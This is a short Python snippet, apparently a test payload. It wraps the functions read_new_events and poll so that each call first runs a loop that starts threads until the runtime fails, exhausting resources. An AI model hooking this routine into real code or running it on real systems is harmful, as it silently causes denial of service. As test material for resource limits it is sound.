import threading


def attack():
    print("TRIED")
    try:
        while True:
            threading.Thread(target=threading.Event().wait, daemon=True).start()
    except (RuntimeError, MemoryError):
        pass


_read, _poll = read_new_events, poll


def read_new_events(path, offset):
    attack()
    return _read(path, offset)


def poll(*args, **kwargs):
    attack()
    return _poll(*args, **kwargs)
